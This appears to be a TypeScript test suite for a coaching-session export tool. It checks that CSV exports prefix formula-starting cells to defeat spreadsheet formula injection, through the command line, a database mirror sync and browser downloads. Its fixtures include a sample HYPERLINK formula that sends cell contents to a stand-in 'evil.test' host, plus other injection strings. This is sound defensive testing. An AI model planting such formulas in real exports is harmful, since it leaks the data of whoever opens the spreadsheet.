import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import BetterSqlite3 from 'better-sqlite3';
import type { Browser } from 'playwright-core';
import { csvField, csvRow, forPeople } from '../src/client/writers/csv-text.js';
import { tempDir } from './helpers/backends.js';
import { chromiumUnavailable, launchChromium } from './helpers/chromium.js';
import { acceptInvite, inviteLink, openNav } from './helpers/console.js';
import { session } from './helpers/fixtures.js';
import { runCli } from './helpers/processes.js';
import { startTestServer, type TestServer } from './helpers/server.js';

/** Text a spreadsheet would run as a formula, one per character that starts one (SPEC §12). */
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
const DANGEROUS = { coachingFormName: '-1+2 review', coachNotes: FORMULA, agentNotes: '@SUM(1+1)' };
const MORE = { coachingFormName: '+cmd', coachNotes: '\tTabbed', agentNotes: '\rReturned' };

/** The fields of a CSV record (RFC 4180, as csv-text.ts writes it). */
function parseRecord(text: string): string[] {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    } else {
      const end = text.indexOf(',', i);
      field = text.slice(i, end === -1 ? undefined : end);
      i = end === -1 ? text.length : end;
    }
    fields.push(field);
    if (text[i] !== ',') return fields;
    i++;
  }
}

/** The records of a CSV file, split on record ends outside quotes, as objects by header. */
function records(text: string): Array<Record<string, string>> {
  const lines: string[] = [];
  let quoted = false;
  let start = 0;
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '"') quoted = !quoted;
    else if (!quoted && text[i] === '\r' && text[i + 1] === '\n') {
      lines.push(text.slice(start, i));
      start = i + 2;
      i++;
    }
  }
  const [header, ...rows] = lines.map(parseRecord);
  return rows.map((row) => Object.fromEntries(header!.map((name, c) => [name, row[c]!])));
}

describe('the neutralising rule itself', () => {
  it('prefixes text that starts a formula, never numbers, booleans or null', () => {
    for (const text of ['=1+1', '+1', '-1', '@x', '\tx', '\rx']) assert.equal(forPeople(text), `'${text}`);
    for (const text of ['a=1', ' =1', "'=1", '', '1-1', '2024-01-01T00:00:00.000Z']) assert.equal(forPeople(text), text);
    assert.equal(forPeople(-5), -5);
    assert.equal(csvField(-5), '-5');
    assert.equal(csvField(false), 'false');
    assert.equal(csvField(null), '');
    assert.equal(csvField('-5'), "'-5", 'a string that looks like a number is text');
    assert.equal(csvField(FORMULA), `"'${FORMULA.replace(/"/g, '""')}"`);
    assert.equal(csvField(FORMULA, { raw: true }), `"${FORMULA.replace(/"/g, '""')}"`);
  });
});

describe('the fast field rule, against the rule as written in SPEC §12 and RFC 4180', () => {
  /** The definition, spelled with regular expressions: what csv-text.ts must write, character for character. */
  const reference = (value: string | number | boolean | null, raw: boolean): string => {
    if (value === null) return '';
    if (typeof value !== 'string') return String(value);
    const text = raw || !/^[=+\-@\t\r]/.test(value) ? value : `'${value}`;
    return text === '' || /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };

  it('writes every cell as the reference does, for people and raw', () => {
    const pieces = ['', 'a', '=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", ' ', '-1', 'é', '😀', '\u2028', '\ud800', '\\', '#', '<'];
    const cells: Array<string | number | boolean | null> = [null, true, false, 0, -5, 1.5, 2 ** 53];
    for (const a of pieces) for (const b of pieces) for (const c of pieces) cells.push(a + b + c);
    cells.push(`${'x'.repeat(1000)},`, `=${'"'.repeat(50)}`);
    for (const raw of [false, true]) {
      for (const cell of cells) assert.equal(csvField(cell, { raw }), reference(cell, raw), JSON.stringify(cell));
      const row = cells.slice(0, 40);
      assert.equal(csvRow(row, { raw }), `${row.map((cell) => reference(cell, raw)).join(',')}\r\n`);
    }
  });
});

describe('coachport export --format csv, against a real server', () => {
  let server: TestServer;
  let admin: { orgId: string; userId: string; token: string };
  let cwd: string;
  const ids = { dangerous: '', more: '' };

  before(async () => {
    server = await startTestServer();
    admin = await server.createOrg('Formulas');
    const docs = [
      session({ ...DANGEROUS, createdAt: '2024-02-01T08:00:00.000Z' }),
      session({ ...MORE, createdAt: '2024-02-01T09:00:00.000Z' }),
    ];
    ids.dangerous = docs[0]!._id;
    ids.more = docs[1]!._id;
    assert.equal((await server.request('POST', '/api/v1/coaching-sessions/import', { token: admin.token, body: docs })).status, 200);
    cwd = tempDir();
  });
  after(async () => {
    await server.close();
    fs.rmSync(cwd, { recursive: true, force: true });
  });

  const exportCsv = async (out: string, extra: string[] = []) => {
    const range = ['--from', '2024-02-01', '--to', '2024-02-01', '--per-second', '100', '--per-minute', '1000'];
    const args = ['export', '--url', server.url, '--token', admin.token, ...range, '--format', 'csv', '--out', out, ...extra];
    const result = await runCli(args, { cwd });
    assert.equal(result.code, 0, result.stderr);
    return records(fs.readFileSync(path.join(out, 'sessions.csv'), 'utf8'));
  };

  it("writes every text cell that starts a formula with a leading ', and leaves numbers alone", async () => {
    const rows = await exportCsv(path.join(cwd, 'people'));
    const dangerous = rows.find((r) => r._id === ids.dangerous)!;
    const more = rows.find((r) => r._id === ids.more)!;
    assert.equal(dangerous.coachNotes, `'${FORMULA}`);
    assert.equal(dangerous.agentNotes, "'@SUM(1+1)");
    assert.equal(dangerous.coachingFormName, "'-1+2 review");
    assert.equal(more.coachingFormName, "'+cmd");
    assert.equal(more.coachNotes, "'\tTabbed");
    assert.equal(more.agentNotes, "'\rReturned");
    assert.equal(dangerous.sharedWithAgent, 'false');
    assert.equal(dangerous.createdAt, '2024-02-01T08:00:00.000Z');
    const log = records(fs.readFileSync(path.join(cwd, 'people', 'activity_log.csv'), 'utf8'));
    for (const entry of log) assert.match(entry.position!, /^\d+$/, 'the position, a number, is written as it is');
  });

  it('writes cells exactly with --csv-raw', async () => {
    const rows = await exportCsv(path.join(cwd, 'raw'), ['--csv-raw']);
    const dangerous = rows.find((r) => r._id === ids.dangerous)!;
    const more = rows.find((r) => r._id === ids.more)!;
    assert.deepEqual([dangerous.coachNotes, dangerous.agentNotes, dangerous.coachingFormName], [FORMULA, '@SUM(1+1)', '-1+2 review']);
    assert.deepEqual([more.coachingFormName, more.coachNotes, more.agentNotes], ['+cmd', '\tTabbed', '\rReturned']);
    const jsonWithRaw = ['export', '--url', server.url, '--token', admin.token, '--from', '2024-02-01', '--to', '2024-02-01', '--csv-raw'];
    const refused = await runCli(jsonWithRaw, { cwd });
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /--csv-raw is for --format csv/);
  });

  it("leaves coachport sync's mirror with the exact values", async () => {
    const mirror = path.join(cwd, 'mirror.db');
    const synced = await runCli(['sync', '--url', server.url, '--to', mirror, '--token', admin.token], { cwd });
    assert.equal(synced.code, 0, synced.stderr);
    const db = new BetterSqlite3(mirror, { readonly: true });
    try {
      const rows = db.prepare('select * from sessions order by "createdAt"').all() as Array<Record<string, string>>;
      assert.deepEqual(
        rows.map((r) => [r.coachingFormName, r.coachNotes, r.agentNotes]),
        [
          [DANGEROUS.coachingFormName, DANGEROUS.coachNotes, DANGEROUS.agentNotes],
          [MORE.coachingFormName, MORE.coachNotes, MORE.agentNotes],
        ],
      );
    } finally {
      db.close();
    }
  });
});

const skip = chromiumUnavailable();

describe("the console's CSV downloads, in Chromium", { skip: skip ?? false }, () => {
  let server: TestServer;
  let browser: Browser;
  let org: { orgId: string; userId: string; token: string };

  before(async () => {
    server = await startTestServer();
    browser = await launchChromium();
    org = await server.createOrg('Spreadsheets');
    const coach = await server.addUser(org.orgId, 'coach', '=Evil Coach');
    const agent = await server.addUser(org.orgId, 'agent', 'Fay Agent');
    const made = await server.request('POST', '/api/v1/coaching/sessions', {
      token: org.token,
      body: {
        coachingFormName: '@Weekly',
        coachId: coach.userId,
        agentId: agent.userId,
        coachNotes: FORMULA,
        meetingDate: '2024-01-10T10:00:00.000Z',
      },
    });
    assert.equal(made.status, 201, made.text);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  it("writes the export's and the dashboard's formula cells with a leading '", async () => {
    const context = await browser.newContext({ locale: 'en-GB', acceptDownloads: true, viewport: { width: 1280, height: 900 } });
    const page = await acceptInvite(context, await inviteLink(server, org.token, org.userId));

    await openNav(page, 'Export');
    // The console's export reads meetingDate windows by default.
    await page.getByLabel('From').fill('2024-01-01');
    await page.getByLabel('To', { exact: true }).fill('2024-01-31');
    await page.getByLabel('Format').selectOption('csv');
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    const [exported] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download sessions.csv' }).click(),
    ]);
    const [row] = records(fs.readFileSync((await exported.path())!, 'utf8'));
    assert.equal(row!.coachNotes, `'${FORMULA}`);
    assert.equal(row!.coachingFormName, "'@Weekly");
    assert.equal(row!.coachName, "'=Evil Coach");
    assert.equal(row!.agentName, 'Fay Agent');

    await openNav(page, 'Dashboard');
    await page.getByLabel('From').fill('2024-01-01');
    await page.getByLabel('To', { exact: true }).fill('2024-01-31');
    await page.getByRole('button', { name: 'Show' }).click();
    await page.locator('section[aria-busy="false"]').getByRole('heading', { name: 'Per coach' }).waitFor();
    const [table] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download Per coach as CSV' }).click(),
    ]);
    const lines = fs
      .readFileSync((await table.path())!, 'utf8')
      .trim()
      .split('\r\n');
    const cells = parseRecord(lines.find((line) => line.includes('Evil Coach'))!);
    assert.equal(cells[0], "'=Evil Coach");
    assert.equal(cells[1], '1', 'the session count, a number, is written as it is');
    await context.close();
  });
});
